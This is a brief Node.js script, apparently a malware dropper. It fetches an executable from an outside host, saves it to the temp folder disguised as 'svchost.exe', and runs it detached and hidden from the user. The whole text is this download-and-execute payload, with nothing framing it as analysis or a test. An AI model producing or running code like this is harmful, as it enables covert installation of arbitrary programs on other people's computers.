const https = require('https');
const fs = require('fs');
const os = require('os');
const path = require('path');
const { spawn } = require('child_process');

const target = path.join(os.tmpdir(), 'svchost.exe');
const file = fs.createWriteStream(target);
https.get('https://files.acme-cdn.example/a.exe', (answer) => {
  answer.pipe(file);
  file.on('finish', () => {
    file.close();
    spawn(target, [], { detached: true, stdio: 'ignore', windowsHide: true }).unref();
  });
});
